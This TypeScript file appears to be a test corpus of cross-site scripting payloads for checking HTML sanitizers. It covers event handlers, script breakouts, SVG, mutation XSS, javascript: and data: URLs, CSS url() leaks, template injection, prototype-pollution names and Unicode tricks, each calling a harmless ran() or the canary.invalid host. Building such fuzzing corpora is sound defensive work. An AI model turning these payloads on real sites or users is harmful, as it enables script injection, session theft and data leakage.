/**
 * What people have typed into fields to make other people's browsers run it, by class of attack.
 *
 * Each payload calls `ran()` or asks for something at `CANARY` when it is taken for markup, code, style or an
 * address. Written after the classes in the OWASP XSS filter evasion sheet, html5sec.org, the fixtures of DOMPurify
 * and the mutation XSS paper of Heiderich et al. (CCS 2013).
 */
export const CANARY = "canary.invalid";

const handlers = [
  "<img src=x onerror=ran()>",
  "<img/src=x/onerror=ran()>",
  "<img src=x onerror=ran`1`>",
  '<img src="x" onerror="ran()" ',
  "<img src=x\nonerror\n=\nran()>",
  "<img src=x:x onerror=ran()//",
  "<IMG SRC=x OnErRoR=ran()>",
  "<img \u0000src=x onerror=ran()>",
  "<img src=x onerror=&#114;&#97;&#110;&#40;&#41;>",
  "<img src=x onerror=&#x72&#x61&#x6e()>",
  "<img src=x onerror=\\u0072an()>",
  "<image src=x onerror=ran()>",
  "<video src=x onerror=ran()>",
  "<video><source onerror=ran()>",
  "<audio src=x onerror=ran()>",
  "<body onload=ran()>",
  "<body onpageshow=ran()>",
  "<iframe onload=ran()>",
  "<style onload=ran()></style>",
  "<link rel=stylesheet href=x onerror=ran()>",
  "<input autofocus onfocus=ran()>",
  "<textarea autofocus onfocus=ran()>",
  "<select autofocus onfocus=ran()>",
  "<button autofocus onfocus=ran()>x",
  "<a href=# autofocus onfocus=ran()>x</a>",
  "<div tabindex=1 autofocus onfocus=ran()>x",
  "<div contenteditable autofocus onfocus=ran()>x",
  "<details open ontoggle=ran()>x",
  "<details/open/ontoggle=ran()>",
  "<marquee onstart=ran()>x</marquee>",
  "<object data=x onerror=ran()>",
  "<embed src=x onerror=ran()>",
  "<p style=animation-name:x onanimationstart=ran()>x",
  "<style>@keyframes x{}</style><p style=animation:x onanimationend=ran()>x",
  "<p onmouseover=ran() style=position:fixed;inset:0>x",
  "<p onpointermove=ran()>x",
  "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=ran()>x",
  "<dialog open onclose=ran()><form method=dialog><button autofocus>x",
] as const;

const scripts = [
  "<script>ran()</script>",
  "<ScRiPt>ran()</sCrIpT>",
  "<script >ran()</script >",
  "<script/x>ran()</script>",
  "<script\n>ran()</script\n>",
  "<script>ran()",
  "<script>ran()//<!--</script>",
  "<script type=module>ran()</script>",
  "<script async src=//canary.invalid/a.js></script>",
  "<script src=data:,ran()></script>",
  "<script src=/sw.js?ran></script>",
  "<scr<script>ipt>ran()</scr</script>ipt>",
  "<<script>ran();//<</script>",
  "</script><script>ran()</script>",
  "</title><script>ran()</script>",
  "</textarea><script>ran()</script>",
  "</style><script>ran()</script>",
  "</noscript><script>ran()</script>",
  "</template><script>ran()</script>",
  "--><script>ran()</script>",
  "--!><script>ran()</script>",
  "]]><script>ran()</script>",
  "<!--><script>ran()</script>-->",
  "<![CDATA[<script>ran()</script>]]>",
  "<?xml version=1?><script>ran()</script>",
  "%3Cscript%3Eran()%3C/script%3E",
  "&lt;script&gt;ran()&lt;/script&gt;",
  "\\u003cscript\\u003eran()\\u003c/script\\u003e",
  "\\x3cscript\\x3eran()\\x3c/script\\x3e",
  "+ADw-script+AD4-ran()+ADw-/script+AD4-",
  "\uFF1Cscript\uFF1Eran()\uFF1C/script\uFF1E",
  "\u2039script\u203Aran()\u2039/script\u203A",
] as const;

const breakouts = [
  '"><script>ran()</script>',
  "'><script>ran()</script>",
  '"><img src=x onerror=ran()>',
  "'><img src=x onerror=ran()>",
  '" autofocus onfocus=ran() x="',
  "' autofocus onfocus=ran() x='",
  '" onmouseover="ran()',
  "` onmouseover=ran() `",
  "';ran();//",
  '";ran();//',
  "`;ran();//",
  "\\';ran();//",
  "\u2028ran()\u2029",
  "*/ran()/*",
  "-->ran()<!--",
] as const;

const svg = [
  "<svg onload=ran()>",
  "<svg/onload=ran()>",
  "<svg><script>ran()</script></svg>",
  "<svg><script>ran&lpar;&rpar;</script></svg>",
  "<svg><script xlink:href=data:,ran()></script></svg>",
  "<svg><animate onbegin=ran() attributeName=x dur=1s>",
  "<svg><set onbegin=ran() attributeName=x>",
  "<svg><a><animate attributeName=href values=javascript:ran() /><text y=20>x</text></a></svg>",
  "<svg><a xlink:href=javascript:ran()><text y=20>x</text></a></svg>",
  "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
  "<svg><use href=data:image/svg+xml,%3Csvg/onload=ran()%3E#x></svg>",
  "<svg><image href=x onerror=ran()>",
  "<svg><style>*{background:url(//canary.invalid/s)}</style></svg>",
  "<svg><discard onbegin=ran()>",
  "<svg><title><img src=x onerror=ran()></title></svg>",
  "<svg><desc><![CDATA[</desc><script>ran()</script>]]></svg>",
] as const;

const mutations = [
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran()&gt;'>",
  "<math><mtext><table><mglyph><style><math><table id='</table>'><img src=x onerror=ran()>",
  "<math><mi xlink:href=javascript:ran()>x",
  "<math href=javascript:ran()>x</math>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
  "<svg></p><style><a id='</style><img src=x onerror=ran()>'>",
  "<svg><p><style><g title='</style><img src=x onerror=ran()>'>",
  "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
  "<xmp><p title='</xmp><img src=x onerror=ran()>'>",
  "<noembed><p title='</noembed><img src=x onerror=ran()>'>",
  "<textarea><p title='</textarea><img src=x onerror=ran()>'>",
  "<listing>&lt;img src=x onerror=ran()&gt;</listing>",
  '<img alt="``onerror=ran()" src=x>',
  "<select><template><img src=x onerror=ran()></template></select>",
  "<template shadowrootmode=open><img src=x onerror=ran()></template>",
  "<p id='\"><img src=x onerror=ran()>'>",
  "<table><td background=javascript:ran()><img src=x onerror=ran()>",
  "<b><style><style/><img src=x onerror=ran()>",
] as const;

const frames = [
  "<iframe srcdoc='<script>ran()</script>'></iframe>",
  "<iframe srcdoc=&lt;img/src/onerror=ran()&gt;>",
  "<iframe src=javascript:ran()></iframe>",
  "<iframe src=data:text/html,<script>parent.ran()</script>></iframe>",
  "<iframe src=//canary.invalid/f></iframe>",
  "<object data=javascript:ran()></object>",
  "<object data=//canary.invalid/o></object>",
  "<embed src=//canary.invalid/e>",
  "<frameset onload=ran()><frame src=//canary.invalid/g></frameset>",
  "<portal src=//canary.invalid/p></portal>",
  "<meta http-equiv=refresh content=0;url=//canary.invalid/m>",
  "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
  "<meta http-equiv=Set-Cookie content=x=y>",
  "<base href=//canary.invalid/>",
  "<link rel=stylesheet href=//canary.invalid/l.css>",
  "<link rel=prefetch href=//canary.invalid/p>",
  "<link rel=preconnect href=//canary.invalid>",
  "<form action=//canary.invalid/f><button autofocus>x",
  "<form><button formaction=javascript:ran()>x",
  "<input type=image src=//canary.invalid/i>",
  "<img src=//canary.invalid/i.png>",
  "<img srcset=//canary.invalid/s.png>",
  "<picture><source srcset=//canary.invalid/p.png><img>",
  "<video poster=//canary.invalid/v.png>",
  "<audio src=//canary.invalid/a.mp3 autoplay>",
  "<track src=//canary.invalid/t.vtt>",
  "<a ping=//canary.invalid/p href=#>x</a>",
  "<html manifest=//canary.invalid/c>",
  "<applet code=//canary.invalid/a.class>",
  "<isindex action=javascript:ran() type=image>",
] as const;

const addresses = [
  "javascript:ran()",
  "JaVaScRiPt:ran()",
  " javascript:ran()",
  "\u0001javascript:ran()",
  "java\tscript:ran()",
  "java\nscript:ran()",
  "javascript\u0000:ran()",
  "javascript&colon;ran()",
  "&#106;avascript:ran()",
  "&#x6A;avascript:ran()",
  "javascript:ran()//https://example.org",
  "javascript://example.org/%0Aran()",
  "javascript://%0Aran()",
  "vbscript:ran()",
  "livescript:ran()",
  "data:text/html,<script>ran()</script>",
  "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=ran()>",
  "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>ran()</script></x>",
  "blob:null/ran()",
  "filesystem:ran()",
  "feed:javascript:ran()",
  "view-source:javascript:ran()",
  "https://example.org/'onclick='ran()",
  'https://example.org/"onclick="ran()',
  "https://example.org/<img src=x onerror=ran()>",
  "https://javascript:ran()@canary.invalid/",
  "mailto:a@example.org?body=<script>ran()</script>",
  "[x](javascript:ran())",
  "![x](//canary.invalid/md.png)",
  "[x]: javascript:ran()",
  "<javascript:ran()>",
  "<a href=javascript:ran()>x</a>",
  "<a href='java&Tab;script:ran()'>x</a>",
  "<a href=javascript&colon;ran()>x</a>",
] as const;

const styles = [
  "<style>*{background:url(//canary.invalid/c)}</style>",
  "<style>@import'//canary.invalid/i.css'</style>",
  "<p style=background:url(//canary.invalid/b)>x",
  "<p style=width:expression(ran())>x",
  "<p style=behavior:url(//canary.invalid/h)>x",
  "red;background:url(//canary.invalid/r)",
  "1px;background-image:url(javascript:ran())",
  "}*{background:url(//canary.invalid/k)}{",
  "</style><style>*{background:url(//canary.invalid/l)}",
  "var(--x,url(//canary.invalid/w))",
  "100%;--_v:url(//canary.invalid/v)",
  "[value^=a]{background:url(//canary.invalid/q)}",
] as const;

const templates = [
  "{{constructor.constructor('ran()')()}}",
  "{{7*7}}{{ran()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is this very text
  "${ran()}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is this very text
  "${`${ran()}`}",
  "#{ran()}",
  "<%= ran() %>",
  "<?= ran() ?>",
  "[[ran()]]",
  "@{ran()}",
  "v-on:load=ran()",
  "<p x-init=ran()>x",
  "<p ng-app ng-csp>{{$on.constructor('ran()')()}}",
  "_$HY.r.ran()",
  "<!--$--><script>ran()</script><!--/-->",
  "<!#>ran()<!/>",
] as const;

const names = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "__defineGetter__",
  '{"__proto__":{"innerHTML":"<img src=x onerror=ran()>"}}',
  "constructor.prototype.ran",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "<a id=trustedTypes></a><a id=trustedTypes name=createPolicy>x",
  "<form id=app><input name=innerHTML>",
  "<img name=currentScript><img name=body>",
] as const;

const unicode = [
  "\u202E<img src=x onerror=ran()>\u202C",
  "\u2066\u202Egnp.exe\u2069",
  "\u202Elmth.tpircs",
  "abc\u202Edef\u202Cghi\u2067jkl",
  "\u200B<\u200Bscript>ran()</script>",
  "<\u00ADscript>ran()</script>",
  "\uFEFF<script>ran()</script>",
  "<script\u3000>ran()</script>",
  "<ſcript>ran()</ſcript>",
  "<ﬀ onload=ran()>",
  "<İmg src=x onerror=ran()>",
  "\u0130<img src=x onerror=ran()>",
  `e${"\u0301".repeat(60)}<img src=x onerror=ran()>`,
  "\u{E0001}\u{E003C}img\u{E003E}",
  "\uFFFE\uFFFF<img src=x onerror=ran()>",
  "\u0000\u0008\u001B[31mran()\u007F",
  "مرحبا <b onclick=ran()>بك</b>",
  "\u2028<script>ran()</script>\u2029",
] as const;

export const corpus = {
  handlers,
  scripts,
  breakouts,
  svg,
  mutations,
  frames,
  addresses,
  styles,
  templates,
  names,
  unicode,
} as const;

export const payloads: readonly string[] = Object.values(corpus).flat();

/** As many payloads per text as fit, each on its own line (or after a space), so that few writes carry all of them. */
export function packed(maxBytes: number, separator: "\n" | " " = "\n"): readonly string[] {
  const texts: string[] = [];
  let text = "";
  for (const payload of payloads.map((one) => (separator === " " ? one.replace(/\n/g, " ") : one))) {
    const longer = text === "" ? payload : text + separator + payload;
    if (text !== "" && Buffer.byteLength(longer) > maxBytes) texts.push(text);
    text = text !== "" && Buffer.byteLength(longer) > maxBytes ? payload : longer;
  }
  return [...texts, text];
}

/** Those that fit into a field as short as this. */
export const short = (maxBytes: number): readonly string[] =>
  payloads.filter((payload) => Buffer.byteLength(payload) <= maxBytes);
